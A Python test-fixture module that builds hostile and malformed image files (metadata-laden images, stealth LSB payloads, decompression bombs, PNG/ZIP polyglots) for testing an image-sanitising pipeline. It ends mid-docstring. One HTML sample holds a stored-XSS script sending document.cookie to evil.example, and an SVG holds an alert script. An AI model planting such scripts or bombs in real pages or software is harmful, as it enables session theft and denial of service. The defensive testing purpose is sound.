"""Builders of hostile and unusual image files, and byte-level parsers to inspect outputs.

Every builder makes its file with Pillow (plus byte splicing where Pillow will not write the
thing we need), so the suite needs no downloaded fixtures. Every piece of metadata a builder
plants contains SECRET, so a test can search any output for it. Shared by the image pipeline
tests and by any other test that needs a realistic, dirty image.
"""

import gzip
import io
import json
import math
import zipfile
import zlib
from typing import Final

from PIL import ExifTags, Image, ImageCms, ImageDraw, ImageStat, PngImagePlugin

SECRET: Final = b"VEIL-SECRET"
_SECRET_TEXT: Final = SECRET.decode()

PNG_SIGNATURE: Final = b"\x89PNG\r\n\x1a\n"

# JPEG markers that tests refer to by name.
SOI, EOI, SOS, COM = 0xD8, 0xD9, 0xDA, 0xFE
APP0, APP1, APP2, APP11, APP13, APP14 = 0xE0, 0xE1, 0xE2, 0xEB, 0xED, 0xEE

# The A1111 "stealth pnginfo" signatures: plain and gzip-compressed, in alpha or in RGB.
STEALTH_ALPHA_PLAIN: Final = b"stealth_pnginfo"
STEALTH_ALPHA_GZIP: Final = b"stealth_pngcomp"
STEALTH_RGB_PLAIN: Final = b"stealth_rgbinfo"
STEALTH_RGB_GZIP: Final = b"stealth_rgbcomp"

_XMP_PACKET: Final = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" '
    f'dc:creator="{_SECRET_TEXT} creator"/></rdf:RDF></x:xmpmeta>'
    '<?xpacket end="w"?>'
)


# ---------------------------------------------------------------- plain pictures


def gradient(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """A smooth picture whose pixels differ, so that encoders and LSB checks have work to do."""
    horizontal = Image.linear_gradient("L").resize(size)
    vertical = Image.linear_gradient("L").rotate(90).resize(size)
    mixed = Image.blend(horizontal, vertical, 0.5)
    rgb = Image.merge("RGB", (horizontal, vertical, mixed))
    if mode == "RGB":
        return rgb
    if mode == "RGBA":
        rgb.putalpha(255)
        return rgb
    return rgb.convert(mode)


def noise(size: tuple[int, int] = (64, 64)) -> Image.Image:
    """Random-looking RGB content that compresses badly, so truncating a file cuts pixels."""
    return Image.merge("RGB", [Image.effect_noise(size, 90 + 20 * band) for band in range(3)])


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def plain_png(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> bytes:
    return encode(gradient(size, mode), "PNG")


def plain_jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    return encode(gradient(size), "JPEG", quality=90)


def webp_image(mode: str = "RGB", *, lossless: bool = False) -> bytes:
    return encode(gradient((64, 48), mode), "WEBP", lossless=lossless, quality=90)


def opaque_rgba_png() -> bytes:
    """RGBA whose alpha is 255 everywhere: the alpha channel carries nothing."""
    return plain_png(mode="RGBA")


def translucent_rgba_png() -> bytes:
    """RGBA with a fully transparent left column, a half-transparent middle and opaque right."""
    image = gradient((60, 20), "RGBA")
    alpha = Image.new("L", (60, 20), 255)
    alpha.paste(0, (0, 0, 20, 20))
    alpha.paste(128, (20, 0, 40, 20))
    image.putalpha(alpha)
    return encode(image, "PNG")


def palette_png(*, transparent: bool) -> bytes:
    image = gradient().convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    if transparent:
        return encode(image, "PNG", transparency=0)
    return encode(image, "PNG")


def one_bit_png() -> bytes:
    return encode(gradient().convert("1"), "PNG")


def png_16bit(values: tuple[int, ...] = (0, 257, 32896, 65535)) -> bytes:
    """A grey 16-bit PNG, one pixel per value (left to right)."""
    raw = b"".join(value.to_bytes(2, "little") for value in values)
    return encode(Image.frombytes("I;16", (len(values), 1), raw), "PNG")


def cmyk_jpeg() -> bytes:
    """A pure red square stored in CMYK, as print workflows export it."""
    return encode(Image.new("CMYK", (32, 32), (0, 255, 255, 0)), "JPEG", quality=95)


def animated_gif() -> bytes:
    """Three frames: red, then green, then blue."""
    return animation("GIF")


def animation(fmt: str) -> bytes:
    """Three 32x32 frames, red, then green, then blue, as an animated GIF, APNG or WebP."""
    frames = [Image.new("RGB", (32, 32), colour) for colour in ("red", "lime", "blue")]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100)


def multi_picture_jpeg() -> bytes:
    """An MPO file, as dual-camera phones write them: a red JPEG, then a second, blue one."""
    first, second = Image.new("RGB", (32, 32), "red"), Image.new("RGB", (32, 32), "blue")
    return encode(first, "MPO", save_all=True, append_images=[second])


def grey_alpha_png(*, translucent: bool) -> bytes:
    """A grey+alpha ("LA") PNG, fully opaque or with a transparent left half."""
    image = gradient(mode="LA")
    if translucent:
        alpha = Image.new("L", image.size, 255)
        alpha.paste(0, (0, 0, image.width // 2, image.height))
        image.putalpha(alpha)
    return encode(image, "PNG")


def colour_key_png(mode: str = "RGB") -> bytes:
    """An RGB or grey PNG whose tRNS chunk makes one colour transparent: the left half."""
    image = Image.new(mode, (32, 32), "red" if mode == "RGB" else 200)
    key = (0, 255, 0) if mode == "RGB" else 0
    image.paste(key, (0, 0, 16, 32))
    return encode(image, "PNG", transparency=key)


def transparent_gif() -> bytes:
    """A GIF whose left half is the transparent colour."""
    image = Image.new("P", (32, 32), 1)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    image.paste(0, (0, 0, 16, 32))
    return encode(image, "GIF", transparency=0)


# ---------------------------------------------------------------- refused types


def bmp_image() -> bytes:
    return encode(gradient(), "BMP")


def tiff_image() -> bytes:
    return encode(gradient(), "TIFF")


def pdf_document() -> bytes:
    return encode(gradient(), "PDF")


def svg_document() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script>alert(1)</script><rect width="10" height="10"/></svg>'
    )


def pdf_header() -> bytes:
    """Only the start of a PDF: the header line and a first object, no image anywhere."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"


def html_document() -> bytes:
    """An HTML page with a script, as someone testing for stored XSS would upload it."""
    return (
        b"<!DOCTYPE html>\n<html><head><title>hi</title></head><body>"
        b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
        + SECRET
        + b"</body></html>\n"
    )


def text_file() -> bytes:
    return b"Steps: 20, Sampler: Euler a, CFG scale: 7, " + SECRET + b"\nnot an image at all\n"


def zip_archive() -> bytes:
    """A ZIP archive alone (see with_zip_appended for one hidden behind an image)."""
    return with_zip_appended(b"")


# ---------------------------------------------------------------- metadata-laden files


def png_with_text_chunks(size: tuple[int, int] = (64, 48)) -> bytes:
    """A PNG as image generators and editors write them, plus a C2PA caBX chunk.

    tEXt parameters, zTXt prompt, iTXt workflow, Comment, Description, iTXt XMP, eXIf, iCCP,
    pHYs, tIME, and a raw caBX chunk spliced in before IEND.
    """
    info = PngImagePlugin.PngInfo()
    info.add_text("parameters", f"a red fox, Steps: 20, Seed: 42, {_SECRET_TEXT}")
    info.add_text("prompt", f'{{"3": {{"inputs": {{"text": "{_SECRET_TEXT}"}}}}}}', zip=True)
    info.add_itxt("workflow", f'{{"nodes": ["{_SECRET_TEXT}"]}}')
    info.add_text("Comment", f"{_SECRET_TEXT} comment")
    info.add_text("Description", f"{_SECRET_TEXT} description")
    info.add_itxt("XML:com.adobe.xmp", _XMP_PACKET)
    info.add(b"tIME", b"\x07\xe8\x01\x02\x03\x04\x05")
    png = encode(
        gradient(size),
        "PNG",
        pnginfo=info,
        exif=_exif_with_gps(orientation=1),
        icc_profile=srgb_profile(),
        dpi=(300, 300),
    )
    return insert_png_chunk(png, b"caBX", _jumbf_c2pa_box())


TEXT_CHUNK_KINDS: Final = (b"tEXt", b"zTXt", b"iTXt")


def png_with_text(keyword: str, kind: bytes = b"tEXt", size: tuple[int, int] = (64, 48)) -> bytes:
    """A PNG with one text chunk, written as tEXt, zTXt (value compressed) or iTXt.

    The value carries SECRET; with zTXt only the keyword is readable in the raw bytes.
    """
    value = f"{keyword} of a red fox, Steps: 20, Seed: 42, {_SECRET_TEXT}"
    info = PngImagePlugin.PngInfo()
    if kind == b"tEXt":
        info.add_text(keyword, value)
    elif kind == b"zTXt":
        info.add_text(keyword, value, zip=True)
    elif kind == b"iTXt":
        info.add_itxt(keyword, value, lang="en", tkey=keyword)
    else:
        raise ValueError(f"not a PNG text chunk type: {kind!r}")
    return encode(gradient(size), "PNG", pnginfo=info)


def png_with_exif_chunk() -> bytes:
    """A PNG whose eXIf chunk holds a camera make, a description and a GPS position."""
    return encode(gradient(), "PNG", exif=_exif_with_gps(orientation=1))


def png_with_cabx_chunk() -> bytes:
    """A PNG carrying a C2PA manifest in a caBX chunk (JUMBF boxes), as signing tools add it."""
    return insert_png_chunk(plain_png(), b"caBX", _jumbf_c2pa_box())


def png_with_text_bomb(expanded_bytes: int = 64 * 1024 * 1024) -> bytes:
    """A small PNG whose zTXt Comment inflates to expanded_bytes (a bomb aimed at the parser)."""
    bomb = zlib.compress(b"\x00" * expanded_bytes, 9)
    return insert_png_chunk(plain_png(), b"zTXt", b"Comment\x00\x00" + bomb)


def gif_with_comment() -> bytes:
    """A GIF with a comment extension block carrying SECRET."""
    image = gradient().convert("P", palette=Image.Palette.ADAPTIVE, colors=64)
    return encode(image, "GIF", comment=SECRET + b" comment")


def jpeg_with_metadata(orientation: int = 1, size: tuple[int, int] = (64, 48)) -> bytes:
    """A JPEG carrying EXIF (with a GPS IFD), XMP, ICC, a comment, IPTC and a C2PA manifest.

    Pillow writes APP1 EXIF, APP1 XMP, APP2 ICC and COM; APP13 (Photoshop IRB with IPTC) and
    APP11 (JUMBF, as C2PA uses) are spliced in by hand.
    """
    jpeg = encode(
        gradient(size),
        "JPEG",
        quality=90,
        exif=_exif_with_gps(orientation),
        xmp=_XMP_PACKET.encode(),
        icc_profile=srgb_profile(),
        comment=f"{_SECRET_TEXT} comment",
    )
    return insert_jpeg_segments(jpeg, [(APP13, _photoshop_iptc()), (APP11, _jpeg_jumbf())])


def webp_with_metadata(size: tuple[int, int] = (64, 48)) -> bytes:
    return encode(
        gradient(size),
        "WEBP",
        quality=90,
        exif=_exif_with_gps(orientation=1),
        xmp=_XMP_PACKET.encode(),
        icc_profile=srgb_profile(),
    )


def jpeg_with_orientation(orientation: int) -> bytes:
    """A 64x32 JPEG of four coloured quadrants, with an EXIF orientation tag.

    As stored: top-left red, top-right lime, bottom-left blue, bottom-right white.
    """
    return encode(quadrants(), "JPEG", quality=95, exif=_orientation_exif(orientation))


def png_with_orientation(orientation: int) -> bytes:
    """Like jpeg_with_orientation, as a PNG with an eXIf chunk."""
    return encode(quadrants(), "PNG", exif=_orientation_exif(orientation))


def quadrants() -> Image.Image:
    image = Image.new("RGB", (64, 32), "white")
    image.paste((255, 0, 0), (0, 0, 32, 16))
    image.paste((0, 255, 0), (32, 0, 64, 16))
    image.paste((0, 0, 255), (0, 16, 32, 32))
    return image


# ---------------------------------------------------------------- stealth payloads


def png_with_alpha_stealth(
    payload: bytes, *, base_alpha: int = 255, gzipped: bool = False
) -> bytes:
    """An RGBA PNG hiding payload in alpha low bits, in A1111's stealth_pnginfo layout.

    Alpha is base_alpha except for its least significant bit, which carries the data. With the
    default 255 the picture looks opaque, yet alpha is not 255 everywhere.
    """
    return encode(_alpha_stealth_image(payload, base_alpha, gzipped), "PNG")


def webp_with_alpha_stealth(payload: bytes, *, base_alpha: int = 200) -> bytes:
    """The alpha stealth layout in a lossless WebP, which keeps every bit like a PNG does."""
    image = _alpha_stealth_image(payload, base_alpha, gzipped=False)
    return encode(image, "WEBP", lossless=True, exact=True)


def png_with_rgb_stealth(payload: bytes, *, gzipped: bool = False) -> bytes:
    """An RGB PNG hiding payload in the red, green and blue low bits (stealth_rgbinfo)."""
    signature = STEALTH_RGB_GZIP if gzipped else STEALTH_RGB_PLAIN
    bits = _stealth_bits(signature, gzip.compress(payload) if gzipped else payload)
    side = max(16, math.ceil(math.sqrt(len(bits) / 3)))
    image = gradient((side, side))
    pixels = image.load()
    assert pixels is not None
    for index, (x, y) in enumerate(_column_major(side, side)):
        chunk = bits[index * 3 : index * 3 + 3]
        if not chunk:
            break
        channels = list(pixels[x, y])
        for band, bit in enumerate(chunk):
            channels[band] = (channels[band] & 0xFE) | bit
        pixels[x, y] = tuple(channels)
    return encode(image, "PNG")


def webp_with_rgb_stealth(payload: bytes, *, gzipped: bool = False) -> bytes:
    """The RGB stealth layout in a lossless WebP without alpha, which keeps every colour bit."""
    image = Image.open(io.BytesIO(png_with_rgb_stealth(payload, gzipped=gzipped)))
    return encode(image, "WEBP", lossless=True, exact=True)


def read_stealth_payload(data: bytes) -> bytes | None:
    """Read an A1111 stealth payload back the way the WebUI reader does, or None if absent."""
    image = Image.open(io.BytesIO(data))
    image.load()
    if image.mode == "RGBA":
        alpha_bits = [image.getpixel(xy)[3] & 1 for xy in _column_major(*image.size)]
        found = _decode_stealth(alpha_bits, STEALTH_ALPHA_PLAIN, STEALTH_ALPHA_GZIP)
        if found is not None:
            return found
    if image.mode not in ("RGB", "RGBA"):
        return None
    rgb_bits = [
        channel & 1 for xy in _column_major(*image.size) for channel in image.getpixel(xy)[:3]
    ]
    return _decode_stealth(rgb_bits, STEALTH_RGB_PLAIN, STEALTH_RGB_GZIP)


def _alpha_stealth_image(payload: bytes, base_alpha: int, gzipped: bool) -> Image.Image:
    signature = STEALTH_ALPHA_GZIP if gzipped else STEALTH_ALPHA_PLAIN
    bits = _stealth_bits(signature, gzip.compress(payload) if gzipped else payload)
    side = max(16, math.ceil(math.sqrt(len(bits))))
    image = gradient((side, side), "RGBA")
    pixels = image.load()
    assert pixels is not None
    for index, (x, y) in enumerate(_column_major(side, side)):
        bit = bits[index] if index < len(bits) else base_alpha & 1
        red, green, blue, _ = pixels[x, y]
        pixels[x, y] = (red, green, blue, (base_alpha & 0xFE) | bit)
    return image


def _stealth_bits(signature: bytes, body: bytes) -> list[int]:
    # Signature, then the body's length in bits as 32 bits, then the body, most significant
    # bit first throughout.
    header = signature + (len(body) * 8).to_bytes(4, "big")
    return _bits(header + body)


def _decode_stealth(bits: list[int], plain: bytes, gzipped: bytes) -> bytes | None:
    signature_bits = len(plain) * 8
    signature = _bytes(bits[:signature_bits])
    if signature not in (plain, gzipped):
        return None
    length = int.from_bytes(_bytes(bits[signature_bits : signature_bits + 32]), "big")
    start = signature_bits + 32
    body = _bytes(bits[start : start + length])
    return gzip.decompress(body) if signature == gzipped else body


def _column_major(width: int, height: int) -> list[tuple[int, int]]:
    # The WebUI walks pixels column by column: x outer, y inner.
    return [(x, y) for x in range(width) for y in range(height)]


def _bits(data: bytes) -> list[int]:
    return [(byte >> shift) & 1 for byte in data for shift in range(7, -1, -1)]


def _bytes(bits: list[int]) -> bytes:
    return bytes(
        int("".join(str(bit) for bit in bits[start : start + 8]), 2)
        for start in range(0, len(bits) - len(bits) % 8, 8)
    )


# ---------------------------------------------------------------- broken and hostile files


def truncated(fmt: str, keep: float = 0.5) -> bytes:
    """A valid file of the given format cut short, as an interrupted upload leaves it."""
    options: dict[str, object] = {"quality": 90} if fmt in ("JPEG", "WEBP") else {}
    whole = encode(noise(), fmt, **options)
    return whole[: int(len(whole) * keep)]


def decompression_bomb_png(width: int = 50_000, height: int = 50_000) -> bytes:
    """A tiny PNG whose IHDR declares a huge image (its IDAT holds almost nothing)."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + png_chunk(b"IEND", b"")
    )


def with_declared_size(data: bytes, width: int, height: int) -> bytes:
    """The same file with its header rewritten to declare another size (pixels untouched).

    Understands PNG (IHDR, CRC fixed), JPEG (first SOF), GIF (logical screen) and lossless or
    extended WebP.
    """
    if data.startswith(PNG_SIGNATURE):
        chunks = png_chunks(data)
        ihdr = width.to_bytes(4, "big") + height.to_bytes(4, "big") + chunks[0][1][8:]
        rest = data[8 + 12 + len(chunks[0][1]) :]
        return PNG_SIGNATURE + png_chunk(b"IHDR", ihdr) + rest
    if data.startswith(b"\xff\xd8"):
        position = _jpeg_sof_offset(data)
        return (
            data[: position + 5]
            + height.to_bytes(2, "big")
            + width.to_bytes(2, "big")
            + data[position + 9 :]
        )
    if data.startswith(b"GIF"):
        return data[:6] + width.to_bytes(2, "little") + height.to_bytes(2, "little") + data[10:]
    if data[12:16] == b"VP8L":
        old = int.from_bytes(data[21:25], "little")
        bits = (old & ~0x0FFFFFFF) | (width - 1) | ((height - 1) << 14)
        return data[:21] + bits.to_bytes(4, "little") + data[25:]
    if data[12:16] == b"VP8X":
        return (
            data[:24]
            + (width - 1).to_bytes(3, "little")
            + (height - 1).to_bytes(3, "little")
            + data[30:]
        )
    raise ValueError("with_declared_size does not know this format")


def gif_with_first_frame_larger_than_screen(width: int, height: int) -> bytes:
    """A GIF with a 1x1 logical screen whose first frame claims width x height.

    Pillow grows the image to fit the frame, so only a check after Image.open sees the size.
    """
    screen = (1).to_bytes(2, "little") * 2 + bytes([0x80, 0, 0])  # global palette of 2 colours
    palette = bytes([0, 0, 0, 255, 255, 255])
    descriptor = (
        b","
        + (0).to_bytes(2, "little") * 2
        + width.to_bytes(2, "little")
        + height.to_bytes(2, "little")
        + b"\x00"
    )
    lzw = bytes([2, 2, 0x44, 0x01, 0])  # minimum code size 2: clear, 0, end
    return b"GIF89a" + screen + palette + descriptor + lzw + b";"


def png_zip_polyglot() -> bytes:
    """A PNG with a ZIP archive appended: valid as both, a classic way to smuggle files."""
    return with_zip_appended(plain_png())


def with_zip_appended(data: bytes) -> bytes:
    """Any file followed by a ZIP archive (ZIP readers look for the directory at the end)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_STORED) as zipped:
        zipped.writestr("payload.txt", SECRET + b" smuggled in a zip")
    return data + archive.getvalue()


def with_trailer(data: bytes, trailer: bytes) -> bytes:
    """Any file with arbitrary bytes after its end (an HTML or script polyglot, say)."""
    return data + trailer


def palette_png_without_palette(*, palette_after_data: bool) -> bytes:
    """A palette PNG whose PLTE is missing, or moved after IDAT: both invalid, both seen."""
    chunks = png_chunks(palette_png(transparent=False))
    palette = dict(chunks)[b"PLTE"]
    kept = [png_chunk(kind, payload) for kind, payload in chunks if kind not in (b"PLTE", b"IEND")]
    if palette_after_data:
        kept.append(png_chunk(b"PLTE", palette))
    return PNG_SIGNATURE + b"".join(kept) + png_chunk(b"IEND", b"")


def png_that_is_really_a_jpeg() -> bytes:
    """JPEG data behind a PNG signature: the magic says one thing, the content another."""
    return PNG_SIGNATURE + plain_jpeg()[2:]


# ---------------------------------------------------------------- byte-level helpers


def png_chunk(chunk_type: bytes, payload: bytes) -> bytes:
    """One PNG chunk with its length and a correct CRC."""
    crc = zlib.crc32(chunk_type + payload).to_bytes(4, "big")
    return len(payload).to_bytes(4, "big") + chunk_type + payload + crc


def png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """(type, payload) of every chunk up to and including IEND."""
    if not data.startswith(PNG_SIGNATURE):
        raise ValueError("not a PNG")
    chunks = []
    position = len(PNG_SIGNATURE)
    while position + 8 <= len(data):
        length = int.from_bytes(data[position : position + 4], "big")
        chunk_type = data[position + 4 : position + 8]
        chunks.append((chunk_type, data[position + 8 : position + 8 + length]))
        position += 12 + length
        if chunk_type == b"IEND":
            break
    return chunks


def bytes_after_png_end(data: bytes) -> bytes:
    end = data.find(b"IEND")
    return data[end + 8 :] if end >= 0 else b""


def insert_png_chunk(data: bytes, chunk_type: bytes, payload: bytes) -> bytes:
    """Splice a chunk in just before IEND."""
    iend = data.rindex(b"IEND") - 4
    return data[:iend] + png_chunk(chunk_type, payload) + data[iend:]


def jpeg_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, payload) of every marker segment, skipping entropy-coded scan data."""
    if not data.startswith(b"\xff\xd8"):
        raise ValueError("not a JPEG")
    segments: list[tuple[int, bytes]] = [(SOI, b"")]
    position = 2
    while position + 1 < len(data):
        if data[position] != 0xFF:
            raise ValueError(f"expected a marker at byte {position}")
        marker = data[position + 1]
        if marker == 0xFF:
            position += 1
            continue
        if marker == EOI or 0xD0 <= marker <= 0xD7:
            segments.append((marker, b""))
            position += 2
            if marker == EOI:
                break
            continue
        length = int.from_bytes(data[position + 2 : position + 4], "big")
        segments.append((marker, data[position + 4 : position + 2 + length]))
        position += 2 + length
        if marker == SOS:
            position = _end_of_scan(data, position)
    return segments


def insert_jpeg_segments(data: bytes, segments: list[tuple[int, bytes]]) -> bytes:
    """Splice marker segments in right after the APP0 (JFIF) segment."""
    app0_length = int.from_bytes(data[4:6], "big")
    cut = 4 + app0_length
    spliced = b"".join(
        bytes([0xFF, marker]) + (len(payload) + 2).to_bytes(2, "big") + payload
        for marker, payload in segments
    )
    return data[:cut] + spliced + data[cut:]


def webp_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """(fourcc, payload) of every chunk inside the RIFF container."""
    if data[:4] != b"RIFF" or data[8:12] != b"WEBP":
        raise ValueError("not a WebP")
    chunks = []
    position = 12
    while position + 8 <= len(data):
        fourcc = data[position : position + 4]
        length = int.from_bytes(data[position + 4 : position + 8], "little")
        chunks.append((fourcc, data[position + 8 : position + 8 + length]))
        position += 8 + length + (length & 1)
    return chunks


def _end_of_scan(data: bytes, position: int) -> int:
    # Inside scan data 0xFF is followed by 0x00 (a stuffed byte) or by a restart marker; any
    # other byte after 0xFF starts the next segment.
    while True:
        position = data.index(b"\xff", position)
        follower = data[position + 1]
        if follower == 0x00 or 0xD0 <= follower <= 0xD7:
            position += 2
            continue
        return position


def _jpeg_sof_offset(data: bytes) -> int:
    position = 2
    while True:
        marker = data[position + 1]
        if 0xC0 <= marker <= 0xCF and marker not in (0xC4, 0xC8, 0xCC):
            return position
        position += 2 + int.from_bytes(data[position + 2 : position + 4], "big")


def _exif_with_gps(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = f"{_SECRET_TEXT} camera"
    exif[ExifTags.Base.ImageDescription] = f"{_SECRET_TEXT} description"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (52.0, 22.0, 12.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (4.0, 53.0, 24.0)
    gps[ExifTags.GPS.GPSMapDatum] = f"GPS {_SECRET_TEXT} datum"
    return exif.tobytes()


def _orientation_exif(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return exif.tobytes()


def srgb_profile() -> bytes:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB"))
    return profile.tobytes()


def _jumbf_c2pa_box() -> bytes:
    """A JUMBF superbox labelled c2pa, the container C2PA manifests travel in."""
    label = b"c2pa\x00"
    description = b"jumd" + bytes(16) + b"\x03" + label  # type UUID, toggles, label
    description_box = (8 + len(description) - 4).to_bytes(4, "big") + description
    content = SECRET + b" manifest: generated by an AI model"
    content_box = (8 + len(content)).to_bytes(4, "big") + b"json" + content
    body = description_box + content_box
    return (8 + len(body)).to_bytes(4, "big") + b"jumb" + body


def _jpeg_jumbf() -> bytes:
    # APP11 carries JUMBF as: "JP", a 2-byte box instance, a 4-byte packet sequence number.
    return b"JP" + (1).to_bytes(2, "big") + (1).to_bytes(4, "big") + _jumbf_c2pa_box()


def _photoshop_iptc() -> bytes:
    caption = SECRET + b" IPTC caption"
    iptc = b"\x1c\x02\x78" + len(caption).to_bytes(2, "big") + caption
    resource = b"8BIM" + (0x0404).to_bytes(2, "big") + b"\x00\x00" + len(iptc).to_bytes(4, "big")
    resource += iptc + (b"\x00" if len(iptc) % 2 else b"")
    return b"Photoshop 3.0\x00" + resource


# ---------------------------------------------------------------- what the picture does not show

ERASED_TEXT: Final = "Jane Roe, 12 Elm St"
ERASED_BOX: Final = (64, 0, 128, 48)  # the right half of a 128x48 picture


def erased_text_mask() -> Image.Image:
    """Where the "erased" text was drawn: 255 on the letters, 0 around them (the right half)."""
    mask = Image.new("L", (ERASED_BOX[2] - ERASED_BOX[0], ERASED_BOX[3]), 0)
    draw = ImageDraw.Draw(mask)
    for row, words in enumerate(ERASED_TEXT.split(", ")):
        draw.text((2, 4 + 20 * row), words, fill=255)
    return mask


def erased_text_rgba(alphas: tuple[int, ...]) -> Image.Image:
    """A picture whose right half was "erased" in an editor: alpha lowered, colours kept.

    The left half is an opaque gradient. The right half's colour values still spell a name
    and an address (black on white), under the given alpha values, repeated column by column.
    """
    image = gradient((128, 48), "RGBA")
    mask = erased_text_mask()
    paper = Image.new("RGBA", mask.size, (255, 255, 255, 255))
    paper.paste((0, 0, 0, 255), mask=mask)
    alpha = Image.new("L", mask.size)
    alpha.putdata([alphas[x % len(alphas)] for _ in range(mask.height) for x in range(mask.width)])
    paper.putalpha(alpha)
    image.paste(paper, ERASED_BOX[:2])
    return image


def erased_region(data: bytes, scale: float = 1.0) -> Image.Image:
    """The erased half of a stored erased_text picture (scaled, for a resized copy)."""
    box = tuple(round(edge * scale) for edge in ERASED_BOX)
    image = Image.open(io.BytesIO(data))
    return image.convert("RGBA").crop(box)


def erased_text_correlation(region: Image.Image) -> float:
    """How well the region's colours, once the alpha is thrown away, show the erased text.

    Pearson correlation with the letters' mask: about -1 when black letters on white paper are
    legible, about 0 when nothing of them is left (and 0 for a flat region).
    """
    seen = region.convert("RGB").convert("L").get_flattened_data()
    mask = erased_text_mask().resize(region.size, Image.Resampling.BOX).get_flattened_data()
    mean_seen, mean_mask = sum(seen) / len(seen), sum(mask) / len(mask)
    covariance = sum((a - mean_seen) * (b - mean_mask) for a, b in zip(seen, mask, strict=True))
    spread = math.sqrt(
        sum((a - mean_seen) ** 2 for a in seen) * sum((b - mean_mask) ** 2 for b in mask)
    )
    return covariance / spread if spread else 0.0


def erased_text_is_legible(data: bytes) -> bool:
    return erased_text_correlation(erased_region(data)) < -0.5


def erased_text_png(alphas: tuple[int, ...] = (0,)) -> bytes:
    return encode(erased_text_rgba(alphas), "PNG")


def erased_text_webp(alphas: tuple[int, ...] = (0,)) -> bytes:
    # exact=True keeps the colour under alpha 0, as an editor's lossless export may.
    return encode(erased_text_rgba(alphas), "WEBP", lossless=True, exact=True)


def fading_glow_png(colour: tuple[int, int, int] = (250, 120, 30)) -> bytes:
    """One colour whose alpha fades from 64 to 0 across the picture: a glow or a soft shadow."""
    image = Image.new("RGBA", (72, 8), (*colour, 0))
    image.putalpha(Image.linear_gradient("L").rotate(90).resize((72, 8)).point(lambda v: v // 4))
    return encode(image, "PNG")


# ---------------------------------------------------------------- colour profiles

# Patches of colour, each PATCH pixels square (a multiple of JPEG's 16-pixel chroma blocks, so
# a patch's centre is flat even after lossy coding). The first is the dulled red.
PATCH: Final = 16
_LEVELS: Final = (0, 96, 176, 255)
RGB_PATCHES: Final = [(241, 0, 0)] + [(r, g, b) for r in _LEVELS for g in _LEVELS for b in _LEVELS]
_INK: Final = (0, 128, 255)
CMYK_PATCHES: Final = [(c, m, y, k) for c in _INK for m in _INK for y in _INK for k in (0, 96, 200)]


def patches(colours: list[tuple[int, ...]], mode: str) -> Image.Image:
    columns = 8
    rows = math.ceil(len(colours) / columns)
    image = Image.new(mode, (columns * PATCH, rows * PATCH))
    for index, colour in enumerate(colours):
        x, y = index % columns * PATCH, index // columns * PATCH
        image.paste(colour, (x, y, x + PATCH, y + PATCH))
    return image


def patch_colours(image: Image.Image, count: int) -> list[tuple[int, ...]]:
    """The mean colour of the middle of each patch (lossy coding blurs their edges)."""
    found = []
    for index in range(count):
        x, y = index % 8 * PATCH, index // 8 * PATCH
        middle = image.convert("RGB").crop((x + 4, y + 4, x + PATCH - 4, y + PATCH - 4))
        found.append(tuple(round(v) for v in ImageStat.Stat(middle).mean))
    return found


def profiled_patches(profile: bytes, fmt: str) -> bytes:
    """RGB patches tagged with an RGB profile (as a phone or Photoshop saves them)."""
    options: dict[str, object] = {"icc_profile": profile}
    if fmt == "JPEG":
        options |= {"quality": 95, "subsampling": 0}
    return encode(patches(RGB_PATCHES, "RGB"), fmt, **options)


GREY_PATCHES: Final = [(level,) for level in range(0, 256, 15)]


def grey_patches(profile: bytes, fmt: str, *, alpha: int | None = None) -> bytes:
    """Grey patches tagged with a grey profile (as a scanner or a print workflow saves them);
    with ``alpha``, as grey and alpha (LA) at that opacity."""
    image = patches(GREY_PATCHES, "L")
    if alpha is not None:
        image.putalpha(alpha)
    options: dict[str, object] = {"icc_profile": profile}
    if fmt == "JPEG":
        options["quality"] = 95
    return encode(image, fmt, **options)


def png_with_gamma(gamma: float, chromaticities: list[tuple[float, float]] | None = None) -> bytes:
    """RGB patches in a PNG that says what its numbers mean with gAMA (and cHRM), no profile."""
    data = encode(patches(RGB_PATCHES, "RGB"), "PNG")
    chunks = png_chunk(b"gAMA", round(gamma * 100_000).to_bytes(4, "big"))
    if chromaticities is not None:
        chunks += png_chunk(b"cHRM", b"".join(round(v * 100_000).to_bytes(4, "big")
                                             for xy in chromaticities for v in xy))
    after_header = len(PNG_SIGNATURE) + 25  # IHDR: length, type, 13 bytes, CRC
    return data[:after_header] + chunks + data[after_header:]


def png_with_xmp_orientation(orientation: int, *, compressed: bool = False) -> bytes:
    """The four quadrants as a PNG whose only orientation is in an XMP packet (iTXt), as
